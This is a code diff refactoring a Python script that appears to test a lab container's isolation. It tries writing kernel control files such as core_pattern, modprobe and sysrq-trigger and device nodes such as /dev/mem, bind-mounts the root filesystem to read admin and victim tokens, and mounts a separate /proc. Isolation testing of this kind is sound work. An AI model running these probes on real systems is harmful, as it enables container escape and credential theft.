@@ -25,7 +25,8 @@ VICTIM = LABS / os.environ["VICTIM"]
 CODE = Path(os.environ["CODE"])
 SECRETS = (DATA / "admin.token", VICTIM / "token")
 NEW_USER, NEW_MOUNTS, NEW_PIDS = 0x10000000, 0x00020000, 0x20000000
-READ_ONLY, REMOUNT, BIND, RECURSIVE, DETACH = 1, 32, 4096, 16384, 2
+REMOUNT, BIND, RECURSIVE, DETACH = 32, 4096, 16384, 2
+KERNEL = ("core_pattern", "domainname", "modprobe", "hotplug")
 OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
 Try = Callable[[], list[str]]
 TRIES: dict[str, Try] = {}
@@ -178,22 +179,20 @@ def control_groups() -> list[str]:
 
 def acting_files(proc: Path) -> list[Path]:
     """Those that do something to the kernel when they are written to."""
-    names = ("core_pattern", "domainname", "modprobe", "hotplug")
-    return [*(proc / "sys/kernel" / name for name in names), proc / "sysrq-trigger"]
+    return [proc / f"sys/kernel/{name}" for name in KERNEL] + [proc / "sysrq-trigger"]
 
 
 @tried
 def the_kernels_settings() -> list[str]:
     """Row 11, with /proc/sys."""
-    huge = Path("/sys/kernel/mm/transparent_hugepage/enabled")
-    return written(*acting_files(Path("/proc")), huge)
+    return written(*acting_files(Path("/proc")), Path("/sys/power/state"))
 
 
 @tried
 def the_kernels_messages() -> list[str]:
     """Row 12, with the devices."""
-    names = ("kmsg", "mem", "port", "sda", "vda", "kvm", "fuse", "loop-control", "net/tun")
-    return written(*(Path("/dev", name) for name in names))
+    names = "kmsg mem port sda vda kvm fuse loop-control net/tun"
+    return written(*(Path("/dev", name) for name in names.split()))
 
 
 def mount_points() -> Iterator[Path]:
@@ -225,8 +224,7 @@ def bound_around() -> list[str]:
     """Row 15: show in another place what is below the covers."""
     gained = []
     for number, how in enumerate((BIND, BIND | RECURSIVE)):
-        place = HOME / f"around-{number}"
-        place.mkdir(exist_ok=True)
+        (place := HOME / f"around-{number}").mkdir(exist_ok=True)
         with suppress(OSError):
             call("mount", "/", place, None, how, None)
             gained += seen(*(place / path.relative_to("/") for path in SECRETS))
@@ -236,8 +234,7 @@ def bound_around() -> list[str]:
 @tried_as_root_of_a_namespace
 def processes_shown() -> list[str]:
     """Row 16: another /proc."""
-    place = HOME / "proc"
-    place.mkdir(exist_ok=True)
+    (place := HOME / "proc").mkdir(exist_ok=True)
     call("mount", "proc", place, "proc", 0, None)
     return strangers_in(place) + written(*acting_files(place))
 
@@ -290,8 +287,7 @@ def gained_by(attempt: Try) -> dict[str, object]:
 def main(port: int) -> None:
     """Try everything, and then be a good lab."""
     report = {name: gained_by(attempt) for name, attempt in TRIES.items()}
-    (HOME / "found.new").write_text(json.dumps(report))
-    (HOME / "found.new").rename(HOME / "found.json")
+    (HOME / "found.json").write_text(json.dumps(report))  # all of it, before anybody is answered
     with socket.create_server(("127.0.0.1", port)) as server:
         while True:
             link, _ = server.accept()
